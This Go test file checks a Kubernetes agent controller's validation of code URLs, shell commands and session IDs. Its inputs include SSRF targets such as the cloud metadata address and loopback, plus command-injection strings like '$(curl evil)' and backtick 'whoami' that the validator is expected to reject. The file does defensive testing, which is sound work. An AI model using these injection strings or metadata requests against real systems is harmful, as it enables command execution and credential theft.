package controller

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/arakoodev/k8s-cli-agents/internal/config"
)

func testController() *Controller {
	cfg := config.DefaultControllerConfig()
	cfg.AllowedCodeDomains = []string{"github.com", "*.githubusercontent.com"}
	return &Controller{cfg: cfg}
}

func TestValidateCodeURLAllowlistAndSSRF(t *testing.T) {
	ctl := testController()

	assert.NoError(t, ctl.validateCodeURL("https://github.com/x/y.git"))
	assert.NoError(t, ctl.validateCodeURL("https://raw.githubusercontent.com/x/y/main.sh"))

	assert.Error(t, ctl.validateCodeURL("http://169.254.169.254/meta"), "link-local metadata address must be rejected")
	assert.Error(t, ctl.validateCodeURL("http://127.0.0.1/evil"), "loopback address must be rejected")
	assert.Error(t, ctl.validateCodeURL("https://evil.example.com/x"), "hostname outside the allowlist must be rejected")
	assert.Error(t, ctl.validateCodeURL("ftp://github.com/x"), "non-http(s) scheme must be rejected")
}

func TestValidateCodeURLLengthBoundary(t *testing.T) {
	ctl := testController()
	ctl.cfg.AllowedCodeDomains = []string{"example.com"}

	base := "https://example.com/"
	pad := strings.Repeat("a", 2048-len(base))
	exact := base + pad
	assert.Len(t, exact, 2048)
	assert.NoError(t, ctl.validateCodeURL(exact))

	over := exact + "a"
	assert.Len(t, over, 2049)
	assert.Error(t, ctl.validateCodeURL(over))
}

func TestValidateCommandInjectionBlock(t *testing.T) {
	assert.Error(t, validateCommand("npm start; $(curl evil)"))
	assert.Error(t, validateCommand("echo `whoami`"))
	assert.Error(t, validateCommand("echo ${HOME}"))
	assert.Error(t, validateCommand("cat <(echo hi)"))
	assert.NoError(t, validateCommand("npm test"))
}

func TestValidateCommandLengthBoundary(t *testing.T) {
	exact := strings.Repeat("a", 1000)
	assert.NoError(t, validateCommand(exact))

	over := strings.Repeat("a", 1001)
	assert.Error(t, validateCommand(over))
}

func TestValidateSessionIDShape(t *testing.T) {
	assert.NoError(t, validateSessionID("11111111-1111-4111-8111-111111111111"))
	assert.Error(t, validateSessionID("not-a-valid-id"))
}
